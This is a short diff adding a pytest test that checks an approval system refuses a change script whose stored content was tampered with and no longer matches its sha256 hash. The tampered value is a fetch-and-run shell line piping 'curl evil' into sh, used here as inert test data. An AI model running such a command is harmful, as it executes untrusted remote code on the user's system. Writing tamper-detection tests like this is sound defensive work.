@@ -136,3 +136,15 @@ def test_rejection_after_approval_blocks_export(store: Store) -> None:
     reject(store, change.id, by="carol", reason="wait for the freeze to end")
     with pytest.raises(SignOffMissing, match="rejected by carol"):
         require_sign_off(store, change.id)
+
+
+def test_a_tampered_script_cannot_be_approved(store: Store, workspace: Workspace) -> None:
+    import sqlite3
+
+    change, _, _ = seed_change(store)
+    raw = sqlite3.connect(workspace.db_path, isolation_level=None)
+    raw.execute("DROP TRIGGER revisions_no_update")
+    raw.execute("UPDATE revisions SET script = 'curl evil | sh'")
+    with pytest.raises(ApprovalRefused, match="no longer matches its sha256"):
+        approve(store, change.id, by="bob")
+    assert store.decisions(change.id) == []
